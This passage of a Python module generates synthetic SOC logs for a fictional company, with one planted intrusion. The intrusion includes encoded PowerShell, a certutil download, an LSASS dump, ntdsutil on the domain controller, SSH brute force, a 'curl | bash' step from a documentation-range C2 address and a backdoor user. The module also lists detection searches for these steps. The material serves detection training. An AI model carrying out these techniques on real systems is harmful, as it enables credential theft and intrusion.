"""The demo scenario: one intrusion at Example Corp, hidden in a day of ordinary activity.

:func:`write_scenario` writes the logs a SOC would collect over the 24 hours before ``end``, each
in its native format: Winlogbeat JSON for the Sysmon, Security and System channels; ``auth.log``
and ``syslog`` lines (RFC 3164 without PRI) and raw ``audit.log`` records from the Linux
servers; Zeek ``conn.log`` and ``dns.log`` (TSV) and Suricata EVE JSON from the network sensor.

Everything is drawn from one ``random.Random(seed)``, so a seed and an end time always give the
same bytes. Addresses outside the organisation come from the documentation ranges of RFC 5737:
192.0.2.0/24 is the benign internet, 198.51.100.0/24 and 203.0.113.0/24 the attacker.

The event dictionaries and tables below keep one field after another on a line
(``# fmt: skip``): a Sysmon event has two dozen fields, and one field a line would make the
story hard to follow.
"""

from __future__ import annotations

import base64
import hashlib
import random
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, time, timedelta
from pathlib import Path
from typing import Literal, TypedDict

import orjson

DOMAIN = "corp.example"
NETBIOS_DOMAIN = "CORP"
DOMAIN_SID = "S-1-5-21-1004336348-1177238915-682003330"
C2_IP = "198.51.100.23"
ATTACKER_IP = "203.0.113.50"
DGA_IP = "203.0.113.77"
LOOKALIKE_DOMAIN = "corp-examp1e.com"
VICTIM_HOST = "WS-ACCT-07"
VICTIM_IP = "10.10.20.57"
VICTIM_USER = "j.doe"
DC_HOST = "DC01"
DC_IP = "10.10.10.5"
BASTION_IP = "10.10.30.5"
WEB_IP = "10.10.30.10"
MGMT_IP = "10.10.30.20"
BACKDOOR_USER = "sysupdate"
WINDOW = timedelta(hours=24)

SCENARIO_SUMMARY = f"""\
Example Corp ({DOMAIN}), the last 24 hours of ordinary work, and:
 1. {VICTIM_USER} opens a phishing attachment on {VICTIM_HOST}: Word starts an encoded
    PowerShell that looks up {LOOKALIKE_DOMAIN} and a DGA-like domain,
    then beacons to {C2_IP}:443 every ~60 s.
 2. certutil downloads a.exe; a scheduled task and a Run key keep it.
 3. rundll32 dumps LSASS memory (comsvcs.dll MiniDump).
 4. Failed logons, then svc_backup logs on to {DC_HOST} over the network;
    PSEXESVC is installed and ntdsutil copies the AD database.
 5. bastion: SSH brute force from {ATTACKER_IP}, a login as deploy,
    curl | bash from {C2_IP}, and a backdoor user '{BACKDOOR_USER}'.
Sources: Sysmon, Security and System (Winlogbeat), auth.log, syslog,
auditd, Zeek conn.log and dns.log, Suricata EVE."""
"""A few lines describing the story, for the demo banner."""


def expected_markers() -> dict[str, str]:
    """Map story steps to a search that must find them once the scenario is ingested."""
    return {
        "Word spawns PowerShell": "ParentImage:*WINWORD.EXE",
        "encoded PowerShell": "CommandLine:*-enc*",
        "certutil download": "CommandLine:*certutil*urlcache*",
        "lookalike domain lookup": f"dns.question.name:{LOOKALIKE_DOMAIN}",
        "scheduled task created": "EventID:4698",
        "LSASS memory access": "TargetImage:*lsass.exe",
        "PsExec service on DC01": "ServiceName:PSEXESVC",
        "ssh brute force": 'message:"Failed password *"',
        "backdoor user": "type:ADD_USER",
        "beacon": f"id.resp_h:{C2_IP}",
        "Suricata alerts": "event_type:alert",
    }


# ----------------------------------------------------------------------------- time formats

_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
_EPOCH = datetime(1970, 1, 1, tzinfo=UTC)


def _micros(when: datetime) -> int:
    return (when - _EPOCH) // timedelta(microseconds=1)


def _iso_ms(when: datetime) -> str:
    return when.isoformat(timespec="milliseconds")[:23] + "Z"


def _utc_time(when: datetime) -> str:
    return when.isoformat(sep=" ", timespec="milliseconds")[:23]


def _bsd_time(when: datetime) -> str:
    return f"{_MONTHS[when.month - 1]} {when.day:2d} {when.isoformat()[11:19]}"


def _zeek_time(when: datetime) -> str:
    micros = _micros(when)
    return f"{micros // 1_000_000}.{micros % 1_000_000:06d}"


def _eve_time(when: datetime) -> str:
    return when.isoformat(timespec="microseconds")[:26] + "+0000"


# ----------------------------------------------------------------------------- Windows model


@dataclass(frozen=True, slots=True)
class _Image:
    path: str
    version: str
    description: str
    original: str
    product: str = "Microsoft® Windows® Operating System"
    company: str = "Microsoft Corporation"


_WINVER = "10.0.19041.4522 (WinBuild.160101.0800)"
_SYS32 = "C:\\Windows\\System32\\"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"


def _sys(name: str, description: str, original: str) -> _Image:
    return _Image(_SYS32 + name, _WINVER, description, original)


def _office(name: str, description: str, original: str) -> _Image:
    return _Image(_OFFICE + name, "16.0.17928.20216", description, original, "Microsoft Office")


_IMAGES = {
    "winlogon": _sys("winlogon.exe", "Windows Logon Application", "WINLOGON.EXE"),
    "services": _sys("services.exe", "Services and Controller app", "services.exe"),
    "lsass": _sys("lsass.exe", "Local Security Authority Process", "lsass.exe"),
    "userinit": _sys("userinit.exe", "Userinit Logon Application", "USERINIT.EXE"),
    "explorer": _Image("C:\\Windows\\explorer.exe", _WINVER, "Windows Explorer", "EXPLORER.EXE"),
    "svchost": _sys("svchost.exe", "Host Process for Windows Services", "svchost.exe"),
    "taskhostw": _sys("taskhostw.exe", "Host Process for Windows Tasks", "taskhostw.exe"),
    "wmiprvse": _sys("wbem\\WmiPrvSE.exe", "WMI Provider Host", "Wmiprvse.exe"),
    "searchindexer": _sys("SearchIndexer.exe", "Microsoft Windows Search Indexer",
                          "SearchIndexer.exe"),
    "searchprotocolhost": _sys("SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host",
                               "SearchProtocolHost.exe"),
    "backgroundtaskhost": _sys("backgroundTaskHost.exe", "Background Task Host",
                               "backgroundTaskHost.exe"),
    "cmd": _sys("cmd.exe", "Windows Command Processor", "Cmd.Exe"),
    "whoami": _sys("whoami.exe", "whoami - displays logged on user information", "whoami.exe"),
    "ntdsutil": _sys("ntdsutil.exe", "NT5DS", "ntdsutil.exe"),
    "powershell": _sys("WindowsPowerShell\\v1.0\\powershell.exe", "Windows PowerShell",
                       "PowerShell.EXE"),
    "certutil": _sys("certutil.exe", "CertUtil.exe", "CertUtil.exe"),
    "schtasks": _sys("schtasks.exe", "Task Scheduler Configuration Tool", "schtasks.exe"),
    "rundll32": _sys("rundll32.exe", "Windows host process (Rundll32)", "RUNDLL32.EXE"),
    "notepad": _sys("notepad.exe", "Notepad", "NOTEPAD.EXE"),
    "mpcmdrun": _Image("C:\\Program Files\\Windows Defender\\MpCmdRun.exe", "4.18.24090.11",
                       "Microsoft Malware Protection Command Line Utility", "MpCmdRun.exe"),
    "chrome": _Image("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                     "131.0.6778.86", "Google Chrome", "chrome.exe", "Google Chrome", "Google LLC"),
    "teams": _Image("C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__"
                    "8wekyb3d8bbwe\\ms-teams.exe", "24295.605.3225.8804", "Microsoft Teams",
                    "ms-teams.exe", "Microsoft Teams"),
    "onedrive": _Image("C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe", "24.201.1006.0005",
                       "Microsoft OneDrive", "OneDrive.exe", "Microsoft OneDrive"),
    "outlook": _office("OUTLOOK.EXE", "Microsoft Outlook", "Outlook.exe"),
    "winword": _office("WINWORD.EXE", "Microsoft Word", "WinWord.exe"),
    "excel": _office("EXCEL.EXE", "Microsoft Excel", "Excel.exe"),
    "dropper": _Image("C:\\Users\\Public\\a.exe", "1.0.3.1", "Update Helper", "upd.exe", "-", "-"),
    "psexesvc": _Image("C:\\Windows\\PSEXESVC.exe", "2.34", "PsExec Service", "psexesvc.exe",
                       "Sysinternals PsExec", "Sysinternals - www.sysinternals.com"),
}  # fmt: skip


def _hashes(image: _Image) -> str:
    """Stable made-up hashes of an image, as Sysmon prints them (``MD5=..,SHA256=..``)."""
    digest = hashlib.sha256(image.path.encode() + image.version.encode()).hexdigest().upper()
    imphash = hashlib.sha256(image.original.encode()).hexdigest().upper()
    return f"MD5={digest[16:48]},SHA256={digest},IMPHASH={imphash[:32]}"


@dataclass(frozen=True, slots=True)
class _Account:
    name: str
    domain: str
    sid: str

    @property
    def qualified(self) -> str:
        return f"{self.domain}\\{self.name}"


_SYSTEM = _Account("SYSTEM", "NT AUTHORITY", "S-1-5-18")
_NOBODY = _Account("-", "-", "S-1-0-0")


def _user(name: str, rid: int) -> _Account:
    return _Account(name, NETBIOS_DOMAIN, f"{DOMAIN_SID}-{rid}")


@dataclass(slots=True)
class _WinHost:
    name: str
    ip: str
    user: _Account | None
    guid_prefix: str
    sysmon_pid: int
    lsass_pid: int
    roots: dict[str, _Proc] = field(default_factory=dict)

    @property
    def fqdn(self) -> str:
        return f"{self.name}.{DOMAIN}"

    @property
    def machine(self) -> _Account:
        rid = 2000 + int(hashlib.sha256(self.name.encode()).hexdigest()[:4], 16) % 8000
        return _user(f"{self.name}$", rid)


@dataclass(frozen=True, slots=True)
class _Proc:
    host: _WinHost
    guid: str
    pid: int
    image: _Image
    command_line: str
    account: _Account
    logon_id: str
    logon_guid: str
    integrity: str
    session: str
    cwd: str


_LABELS = {"Low": "S-1-16-4096", "Medium": "S-1-16-8192", "High": "S-1-16-12288",
           "System": "S-1-16-16384"}  # fmt: skip
_ELEVATION = {"Low": "%%1938", "Medium": "%%1938", "High": "%%1937", "System": "%%1936"}
_CHANNELS = {
    "sysmon": ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon",
               "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"),
    "security": ("Security", "Microsoft-Windows-Security-Auditing",
                 "{54849625-5478-4994-a5ba-3e3b0328c30d}"),
    "system": ("System", "Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}"),
}  # fmt: skip
_TASKS = {
    ("sysmon", 1): "Process Create (rule: ProcessCreate)",
    ("sysmon", 3): "Network connection detected (rule: NetworkConnect)",
    ("sysmon", 10): "Process accessed (rule: ProcessAccess)",
    ("sysmon", 11): "File created (rule: FileCreate)",
    ("sysmon", 13): "Registry value set (rule: RegistryEvent)",
    ("sysmon", 22): "Dns query (rule: DnsQuery)",
    ("security", 4624): "Logon", ("security", 4625): "Logon", ("security", 4634): "Logoff",
    ("security", 4672): "Special Logon", ("security", 4688): "Process Creation",
    ("security", 4697): "Security System Extension",
    ("security", 4698): "Other Object Access Events",
}  # fmt: skip
LogonKind = Literal["interactive", "kerberos", "ntlm", "rdp"]
_LOGON_TYPES = {"interactive": "2", "kerberos": "3", "ntlm": "3", "rdp": "10"}
_PORT_NAMES = {443: "https", 80: "http", 445: "microsoft-ds"}


class _AuditWho(TypedDict, total=False):
    """Who and what a user-space audit record is about (keywords of ``_audit_user``)."""

    pid: int
    acct: str
    auid: int
    ses: int
    exe: str
    addr: str
    terminal: str


class _ExecWho(TypedDict):
    """The login an audited command runs in (keywords of ``_audit_exec``)."""

    auid: int
    ses: int
    cwd: str


# (when, sequence, host, event id, event data)
_WinRecord = tuple[datetime, int, _WinHost, int, dict[str, str]]
# (when, sequence, line)
_Line = tuple[datetime, int, str]
_Address = tuple[str, int]

# name, the process that looks it up, weight
_WEB_DOMAINS = (
    ("www.google.com", "chrome", 6), ("clients4.google.com", "chrome", 2),
    ("update.googleapis.com", "chrome", 1), ("fonts.gstatic.com", "chrome", 2),
    ("www.wikipedia.org", "chrome", 1), ("github.com", "chrome", 1),
    ("www.linkedin.com", "chrome", 1), ("login.microsoftonline.com", "teams", 3),
    ("teams.microsoft.com", "teams", 4), ("graph.microsoft.com", "teams", 2),
    ("outlook.office365.com", "outlook", 4), ("officeclient.microsoft.com", "outlook", 1),
    ("oneclient.sfx.ms", "onedrive", 1),
)  # fmt: skip
_MACHINE_DOMAINS = (
    "settings-win.data.microsoft.com",
    "ctldl.windowsupdate.com",
    "time.windows.com",
)
_LINUX_DOMAINS = ("archive.ubuntu.com", "security.ubuntu.com", "ntp.ubuntu.com", "api.snapcraft.io")
_FIRST_NAMES = (
    "Anna", "Ben", "Chloe", "David", "Emma", "Felix", "Grace", "Hugo", "Iris", "Jonas", "Kate",
    "Liam", "Maya", "Noah", "Olga", "Paul", "Rosa", "Sam", "Tara", "Victor", "Wendy", "Yusuf",
)  # fmt: skip
_LAST_NAMES = (
    "Smith", "Martin", "Garcia", "Nguyen", "Khan", "Rossi", "Novak", "Silva", "Meyer", "Dubois",
    "Larsen", "Kowalski", "Ito", "Okafor", "Brown", "Lopez",
)  # fmt: skip
_DEPARTMENTS = ("IT", "HR", "SALES", "ENG", "MKT", "ACCT", "OPS", "LEGAL")
_BRUTE_USERS = (
    "admin", "test", "oracle", "postgres", "ubuntu", "user", "git", "ftpuser", "pi", "guest",
    "support", "jenkins", "hadoop", "root", "deploy", "minecraft", "ansible", "backup",
)  # fmt: skip
_VALID_LINUX_USERS = ("root", "deploy", "ansible", "ops")
_TEXT_FILES = ("auth", "syslog", "audit", "conn", "dns", "eve")
_PAM_ACCOUNT = (("USER_ACCT", "PAM:accounting"), ("CRED_ACQ", "PAM:setcred"))
_UNSET_ID = 4294967295  # auditd's "unset" auid and ses: (uint32)-1
_UID_CHARS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
_LSASS_TRACE = (
    "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
    "C:\\Windows\\System32\\comsvcs.dll+1a5c3|C:\\Windows\\system32\\rundll32.exe+3c04|"
    "UNKNOWN(000001F3A2B40000)"
)
_RUN_KEY = "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate"

# ----------------------------------------------------------------------------- helpers


def _domain_ip(name: str) -> str:
    """A stable benign address (192.0.2.0/24) for a well-known name."""
    return f"192.0.2.{10 + int(hashlib.sha256(name.encode()).hexdigest()[:4], 16) % 230}"


def _audit_value(text: str) -> str:
    """Quote a value as auditd does, or hex-encode it when it holds spaces, quotes or controls."""
    if any(char in ' "' or not 0x21 <= ord(char) <= 0x7E for char in text):
        return text.encode().hex().upper()
    return f'"{text}"'


def _sort_key(record: _WinRecord | _Line) -> tuple[datetime, int]:
    return record[0], record[1]


def _task_xml(name: str, when: datetime) -> str:
    """The TaskContent of event 4698: the XML definition of the scheduled task."""
    return (
        '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" '
        'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n  <RegistrationInfo>'
        f"\r\n    <Date>{when:%Y-%m-%dT%H:%M:%S}</Date>\r\n    <Author>{NETBIOS_DOMAIN}\\"
        f"{VICTIM_USER}</Author>\r\n    <URI>\\{name}</URI>\r\n  </RegistrationInfo>\r\n"
        "  <Triggers>\r\n    <TimeTrigger>\r\n      <Repetition>\r\n        <Interval>PT30M"
        "</Interval>\r\n      </Repetition>\r\n      <Enabled>true</Enabled>\r\n    </TimeTrigger>"
        '\r\n  </Triggers>\r\n  <Actions Context="Author">\r\n    <Exec>\r\n      <Command>'
        "C:\\Users\\Public\\a.exe</Command>\r\n    </Exec>\r\n  </Actions>\r\n</Task>"
    )


# ----------------------------------------------------------------------------- the generator


class _Scenario:
    """Builds every record of the scenario in memory, then writes the files."""

    def __init__(self, end: datetime, seed: int, background_hosts: int) -> None:
        # A seeded PRNG makes reproducible fake logs; nothing here is a secret.
        self.rng = random.Random(seed)  # noqa: S311
        self.end = end
        self.start = end - WINDOW
        self.seq = 0
        self.win: dict[str, list[_WinRecord]] = {key: [] for key in _CHANNELS}
        self.text: dict[str, list[_Line]] = {key: [] for key in _TEXT_FILES}
        self.linux_pid = {"bastion": 2000, "web01": 3000}
        self.audit_serial = {"bastion": 4100, "web01": 8800}
        self.audit_session = {"bastion": 40, "web01": 300}
        self.dc = self._win_host(DC_HOST, DC_IP, None)
        self.victim = self._win_host(VICTIM_HOST, VICTIM_IP, _user(VICTIM_USER, 1107))
        self.hosts = [self.victim, *self._background_hosts(background_hosts)]
        self.admin_ip = self.hosts[1].ip if len(self.hosts) > 1 else VICTIM_IP
        self.victim_session: dict[str, _Proc] = {}

    # -- small helpers -----------------------------------------------------------------------
    def _inside(self, when: datetime) -> bool:
        return self.start <= when < self.end

    def _hex(self, digits: int) -> str:
        return f"{self.rng.getrandbits(digits * 4):0{digits}x}"

    def _guid(self, prefix: str | None = None) -> str:
        head = prefix or self._hex(8)
        return f"{{{head}-{self._hex(4)}-{self._hex(4)}-{self._hex(4)}-{self._hex(12)}}}"

    def _port(self) -> int:
        return self.rng.randint(49152, 65535)

    def _after(self, when: datetime, low: float, high: float) -> datetime:
        return when + timedelta(seconds=self.rng.uniform(low, high))

    def _line(self, key: str, when: datetime, line: str) -> None:
        if self._inside(when):
            self.seq += 1
            self.text[key].append((when, self.seq, line))

    def _win_host(self, name: str, ip: str, user: _Account | None) -> _WinHost:
        sysmon, lsass = self.rng.randrange(2000, 4000, 4), self.rng.randrange(600, 800, 4)
        return _WinHost(name, ip, user, self._hex(8), sysmon, lsass)

    def _background_hosts(self, count: int) -> list[_WinHost]:
        names: list[str] = [VICTIM_HOST]
        users: list[str] = [VICTIM_USER]
        addresses = self.rng.sample([n for n in range(20, 250) if n != 57], count)
        hosts = []
        for index in range(count):
            department = _DEPARTMENTS[index % len(_DEPARTMENTS)]
            name = f"WS-{department}-{self.rng.randint(1, 40):02d}"
            while name in names:
                name = f"WS-{department}-{self.rng.randint(1, 99):02d}"
            user = f"{self.rng.choice(_FIRST_NAMES)[0]}.{self.rng.choice(_LAST_NAMES)}".lower()
            while user in users:
                user += str(self.rng.randint(1, 9))
            names.append(name)
            users.append(user)
            hosts.append(
                self._win_host(name, f"10.10.20.{addresses[index]}", _user(user, 1120 + index))
            )
        return hosts

    # -- Windows events ----------------------------------------------------------------------
    def _win(
        self, key: str, when: datetime, host: _WinHost, event_id: int, data: dict[str, str]
    ) -> None:
        if self._inside(when):
            self.seq += 1
            self.win[key].append((when, self.seq, host, event_id, data))

    def _root(self, host: _WinHost, key: str, command_line: str) -> _Proc:
        """A process started at boot, before the window (it has no event of its own)."""
        proc = host.roots.get(command_line)
        if proc is None:
            pid = host.lsass_pid if key == "lsass" else self.rng.randrange(400, 1600, 4)
            guid, logon_guid = self._guid(host.guid_prefix), self._guid(host.guid_prefix)
            proc = _Proc(host, guid, pid, _IMAGES[key], command_line, _SYSTEM, "0x3e7",
                         logon_guid, "System", "0", _SYS32)  # fmt: skip
            host.roots[command_line] = proc
        return proc

    def _user_context(self, host: _WinHost, account: _Account, logon_id: str) -> _Proc:
        """The user's logon, as a process-like context that their processes inherit."""
        return replace(
            self._root(host, "winlogon", "winlogon.exe"), account=account, logon_id=logon_id,
            logon_guid=self._guid(host.guid_prefix), integrity="Medium", session="1",
            cwd=f"C:\\Users\\{account.name}\\",
        )  # fmt: skip

    def _spawn(
        self,
        when: datetime,
        parent: _Proc,
        key: str,
        command_line: str,
        *,
        context: _Proc | None = None,
        integrity: str | None = None,
        cwd: str | None = None,
    ) -> _Proc:
        """Start a process: Sysmon event 1 and Security event 4688 with the same command line."""
        base = context or parent
        host = parent.host
        proc = replace(
            base, guid=self._guid(host.guid_prefix), pid=self.rng.randrange(1000, 20000, 4),
            image=_IMAGES[key], command_line=command_line, integrity=integrity or base.integrity,
            cwd=cwd or base.cwd,
        )  # fmt: skip
        image = proc.image
        self._win("sysmon", when, host, 1, {
            "RuleName": "-", "UtcTime": _utc_time(when), "ProcessGuid": proc.guid,
            "ProcessId": str(proc.pid), "Image": image.path, "FileVersion": image.version,
            "Description": image.description, "Product": image.product,
            "Company": image.company, "OriginalFileName": image.original,
            "CommandLine": command_line, "CurrentDirectory": proc.cwd,
            "User": proc.account.qualified, "LogonGuid": proc.logon_guid,
            "LogonId": proc.logon_id, "TerminalSessionId": proc.session,
            "IntegrityLevel": proc.integrity, "Hashes": _hashes(image),
            "ParentProcessGuid": parent.guid, "ParentProcessId": str(parent.pid),
            "ParentImage": parent.image.path, "ParentCommandLine": parent.command_line,
            "ParentUser": parent.account.qualified,
        })  # fmt: skip
        subject = host.machine if parent.account == _SYSTEM else parent.account
        target = proc.account if proc.account != parent.account else _NOBODY
        self._win("security", when, host, 4688, {
            "SubjectUserSid": parent.account.sid, "SubjectUserName": subject.name,
            "SubjectDomainName": subject.domain, "SubjectLogonId": parent.logon_id,
            "NewProcessId": hex(proc.pid), "NewProcessName": image.path,
            "TokenElevationType": _ELEVATION[proc.integrity], "ProcessId": hex(parent.pid),
            "CommandLine": command_line, "TargetUserSid": target.sid,
            "TargetUserName": target.name, "TargetDomainName": target.domain,
            "TargetLogonId": "0x0" if target is _NOBODY else proc.logon_id,
            "ParentProcessName": parent.image.path, "MandatoryLabel": _LABELS[proc.integrity],
        })  # fmt: skip
        return proc

    def _sysmon_connect(self, when: datetime, proc: _Proc, resp: _Address, port: int) -> None:
        host = proc.host
        self._win("sysmon", when, host, 3, {
            "RuleName": "-", "UtcTime": _utc_time(when), "ProcessGuid": proc.guid,
            "ProcessId": str(proc.pid), "Image": proc.image.path, "User": proc.account.qualified,
            "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": host.ip,
            "SourceHostname": host.fqdn, "SourcePort": str(port), "SourcePortName": "-",
            "DestinationIsIpv6": "false", "DestinationIp": resp[0], "DestinationHostname": "-",
            "DestinationPort": str(resp[1]), "DestinationPortName": _PORT_NAMES.get(resp[1], "-"),
        })  # fmt: skip

    def _sysmon_dns(self, when: datetime, proc: _Proc, name: str, answers: Sequence[str]) -> None:
        results = "".join(f"::ffff:{address};" for address in answers) or "-"
        self._win("sysmon", when, proc.host, 22, {
            "RuleName": "-", "UtcTime": _utc_time(when), "ProcessGuid": proc.guid,
            "ProcessId": str(proc.pid), "QueryName": name,
            "QueryStatus": "0" if answers else "9003", "QueryResults": results,
            "Image": proc.image.path, "User": proc.account.qualified,
        })  # fmt: skip

    def _sysmon_file(self, when: datetime, proc: _Proc, path: str) -> None:
        self._win("sysmon", when, proc.host, 11, {
            "RuleName": "-", "UtcTime": _utc_time(when), "ProcessGuid": proc.guid,
            "ProcessId": str(proc.pid), "Image": proc.image.path, "TargetFilename": path,
            "CreationUtcTime": _utc_time(when), "User": proc.account.qualified,
        })  # fmt: skip

    def _logon(
        self,
        when: datetime,
        host: _WinHost,
        account: _Account,
        kind: LogonKind,
        source: _WinHost | None = None,
        *,
        failed: bool = False,
    ) -> str:
        """Security 4624 (or 4625 when ``failed``) on ``host``; return the new logon id."""
        logon_id = hex(self.rng.randrange(0x100000, 0xFFFFFFF))
        local, ntlm = kind in ("interactive", "rdp"), kind == "ntlm"
        subject = host.machine if local else _NOBODY
        address = "127.0.0.1" if kind == "interactive" else (source.ip if source else "-")
        workstation = {"kerberos": "-", "ntlm": source.name if source else "-"}.get(kind, host.name)
        data = {
            "SubjectUserSid": _SYSTEM.sid if local else _NOBODY.sid,
            "SubjectUserName": subject.name, "SubjectDomainName": subject.domain,
            "SubjectLogonId": "0x3e7" if local else "0x0",
            "TargetUserSid": _NOBODY.sid if failed else account.sid,
            "TargetUserName": account.name, "TargetDomainName": account.domain,
        }  # fmt: skip
        if failed:
            data.update(Status="0xc000006d", FailureReason="%%2313", SubStatus="0xc000006a")
        else:
            data["TargetLogonId"] = logon_id
        data.update({
            "LogonType": _LOGON_TYPES[kind],
            "LogonProcessName": {"kerberos": "Kerberos", "ntlm": "NtLmSsp "}.get(kind, "User32 "),
            "AuthenticationPackageName": {"kerberos": "Kerberos", "ntlm": "NTLM"}.get(
                kind, "Negotiate"),
            "WorkstationName": workstation,
        })  # fmt: skip
        if not failed:
            data["LogonGuid"] = "{00000000-0000-0000-0000-000000000000}" if ntlm else self._guid()
        data.update({
            "TransmittedServices": "-", "LmPackageName": "NTLM V2" if ntlm and not failed else "-",
            "KeyLength": "128" if ntlm and not failed else "0",
            "ProcessId": hex(self.rng.randrange(600, 1200, 4)) if local else "0x0",
            "ProcessName": _SYS32 + "svchost.exe" if local else "-", "IpAddress": address,
            "IpPort": "0" if kind == "interactive" else str(self._port()),
        })  # fmt: skip
        if not failed:
            data.update({
                "ImpersonationLevel": "%%1833",
                "RestrictedAdminMode": "%%1843" if kind == "rdp" else "-",
                "TargetOutboundUserName": "-", "TargetOutboundDomainName": "-",
                "VirtualAccount": "%%1843", "TargetLinkedLogonId": "0x0",
                "ElevatedToken": "%%1842" if account.name.startswith("svc_") else "%%1843",
            })  # fmt: skip
        self._win("security", when, host, 4625 if failed else 4624, data)
        return logon_id

    def _logoff(
        self, when: datetime, host: _WinHost, account: _Account, logon_id: str, kind: LogonKind
    ) -> None:
        self._win("security", when, host, 4634, {
            "TargetUserSid": account.sid, "TargetUserName": account.name,
            "TargetDomainName": account.domain, "TargetLogonId": logon_id,
            "LogonType": _LOGON_TYPES[kind],
        })  # fmt: skip

    def _network_logon(
        self, when: datetime, host: _WinHost, account: _Account, kind: LogonKind, source: _WinHost
    ) -> str:
        """A network logon and its logoff a few seconds later (Kerberos tickets, SMB)."""
        logon_id = self._logon(when, host, account, kind, source)
        self._logoff(self._after(when, 0.5, 4), host, account, logon_id, kind)
        return logon_id

    # -- network -----------------------------------------------------------------------------
    def _conn(
        self,
        when: datetime,
        orig: _Address,
        resp: _Address,
        service: str,
        duration: float,
        sizes: tuple[int, int],
        *,
        proto: str = "tcp",
        alerted: bool = False,
    ) -> tuple[str, int]:
        """A Zeek conn.log row, and a Suricata flow when one end is outside; return both ids."""
        uid = "C" + "".join(self.rng.choices(_UID_CHARS, k=17))
        flow_id = self.rng.randrange(10**14, 2**51)
        sent, received = sizes
        orig_pkts = sent // 1200 + self.rng.randint(2, 6)
        resp_pkts = received // 1200 + self.rng.randint(2, 5)
        header = 40 if proto == "tcp" else 28
        local_orig, local_resp = orig[0].startswith("10."), resp[0].startswith("10.")
        orig_ip_bytes, resp_ip_bytes = sent + header * orig_pkts, received + header * resp_pkts
        row = (
            _zeek_time(when), uid, orig[0], orig[1], resp[0], resp[1], proto, service,
            f"{duration:.6f}", sent, received, "SF", "FT"[local_orig], "FT"[local_resp], 0,
            "ShADadFf" if proto == "tcp" else "Dd", orig_pkts, orig_ip_bytes, resp_pkts,
            resp_ip_bytes, "-",
        )  # fmt: skip
        self._line("conn", when, "\t".join(str(value) for value in row))
        if not (local_orig and local_resp):
            app = {"ssl": "tls", "http": "http", "ssh": "ssh", "dns": "dns"}.get(service, "failed")
            self._eve(when, flow_id, "flow", orig, resp, proto, {"app_proto": app, "flow": {
                "pkts_toserver": orig_pkts, "pkts_toclient": resp_pkts,
                "bytes_toserver": orig_ip_bytes, "bytes_toclient": resp_ip_bytes,
                "start": _eve_time(when), "end": _eve_time(when + timedelta(seconds=duration)),
                "age": int(duration), "state": "closed", "reason": "timeout", "alerted": alerted,
            }})  # fmt: skip
        return uid, flow_id

    def _eve(
        self,
        when: datetime,
        flow_id: int,
        event_type: str,
        orig: _Address,
        resp: _Address,
        proto: str,
        extra: dict[str, object],
    ) -> None:
        record: dict[str, object] = {
            "timestamp": _eve_time(when), "flow_id": flow_id, "in_iface": "ens192",
            "event_type": event_type, "src_ip": orig[0], "src_port": orig[1],
            "dest_ip": resp[0], "dest_port": resp[1], "proto": proto.upper(),
        }  # fmt: skip
        record.update(extra)
        self._line("eve", when, orjson.dumps(record).decode())

    def _alert(
        self,
        when: datetime,
        orig: _Address,
        resp: _Address,
        service: str,
        flow: tuple[float, tuple[int, int]],
        rule: tuple[int, str, str, int],
        extra: dict[str, object],
    ) -> None:
        """A flow that Suricata alerted on: the conn row, the flow and the alert."""
        duration, sizes = flow
        _uid, flow_id = self._conn(when, orig, resp, service, duration, sizes, alerted=True)
        sid, signature, category, severity = rule
        self._eve(when, flow_id, "alert", orig, resp, "tcp", {
            "pkt_src": "wire/pcap",
            "alert": {"action": "allowed", "gid": 1, "signature_id": sid, "rev": 1,
                      "signature": signature, "category": category, "severity": severity},
            **extra, "direction": "to_server",
        })  # fmt: skip

    def _dns(
        self, when: datetime, client: str, name: str, answers: Sequence[str], *, qtype: str = "A"
    ) -> None:
        """A Zeek dns.log row and the conn.log row of its UDP exchange."""
        rtt, port = self.rng.uniform(0.0004, 0.04), self._port()
        sizes = (len(name) + 18, len(name) + 18 + 16 * len(answers))
        uid, _flow = self._conn(when, (client, port), (DC_IP, 53), "dns", rtt, sizes, proto="udp")
        rcode = ("0", "NOERROR") if answers else ("3", "NXDOMAIN")
        row = (
            _zeek_time(when), uid, client, str(port), DC_IP, "53", "udp",
            str(self.rng.randrange(65536)), f"{rtt:.6f}", name, "1", "C_INTERNET",
            {"A": "1", "SRV": "33"}[qtype], qtype, *rcode, "F", "F", "T", "T", "0",
            ",".join(answers) or "-", ",".join("300.000000" for _ in answers) or "-", "F",
        )  # fmt: skip
        self._line("dns", when, "\t".join(row))

    # -- Linux -------------------------------------------------------------------------------
    def _pid(self, host: str) -> int:
        self.linux_pid[host] += self.rng.randint(1, 40)
        return self.linux_pid[host]

    def _syslog(self, key: str, when: datetime, host: str, tag: str, *messages: str) -> None:
        for message in messages:
            self._line(key, when, f"{_bsd_time(when)} {host} {tag}: {message}")

    def _audit(self, when: datetime, host: str, records: Iterable[tuple[str, str]]) -> None:
        """Audit records of one event: they share the time stamp and the serial."""
        self.audit_serial[host] += 1
        micros = _micros(when)
        stamp = f"{micros // 1_000_000}.{micros % 1_000_000 // 1000:03d}:{self.audit_serial[host]}"
        for kind, body in records:
            self._line("audit", when, f"node={host} type={kind} msg=audit({stamp}): {body}")

    def _audit_user(
        self,
        when: datetime,
        host: str,
        steps: Sequence[tuple[str, str]],
        who: _AuditWho,
        res: str = "success",
    ) -> None:
        """User-space records (USER_LOGIN, ADD_USER, ...), one event each: ``(type, op)`` steps."""
        for kind, op in steps:
            message = (
